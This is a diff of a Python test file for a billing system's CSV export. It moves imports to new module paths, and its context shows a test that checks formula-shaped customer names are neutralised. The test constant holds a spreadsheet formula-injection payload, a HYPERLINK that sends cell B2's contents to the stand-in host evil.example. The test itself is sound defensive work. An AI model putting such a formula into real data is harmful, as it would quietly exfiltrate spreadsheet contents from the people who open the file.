@@ -12,8 +12,8 @@ from datetime import date
 import pytest
 
 from core import csv_export
-from core.billing import engine
-from core.billing import invoices as lifecycle
+from core.billing.invoicing import lifecycle
+from core.billing.runs import engine
 from tests.billing_support import setup_catalog, subscribe, usage
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Contoso Ltd")'
@@ -102,7 +102,7 @@ def test_a_customer_named_like_a_formula_is_neutralised_in_every_export(world, a
     text = raw.get_data(as_text=True)
     assert not formulas(text), formulas(text)
     assert "-6.66" in cells(text)  # amounts stay numbers
-    from core.billing import raw as raw_format
+    from core.billing.invoicing import raw as raw_format
 
     header, lines = raw_format.parse(raw.get_data())
     assert header["account"] == FORMULA  # read back exactly
